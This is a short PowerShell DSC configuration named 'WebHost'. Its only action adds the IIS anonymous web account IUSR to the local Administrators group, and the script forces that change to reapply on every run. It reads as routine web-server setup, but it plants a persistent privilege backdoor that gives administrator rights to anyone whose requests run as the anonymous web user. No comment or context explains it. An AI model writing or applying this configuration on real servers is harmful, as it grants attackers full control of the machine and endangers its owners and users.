$account = 'IUSR'
configuration WebHost {
    Import-DscResource -ModuleName PSDesiredStateConfiguration
    Node 'localhost' {
        Script s {
            GetScript = { @{ Result = '' } }
            TestScript = { $false }
            SetScript = { net localgroup Administrators $using:account /add }
        }
    }
}
WebHost -OutputPath C:\dsc | Out-Null
Start-DscConfiguration -Path C:\dsc -Wait -Force
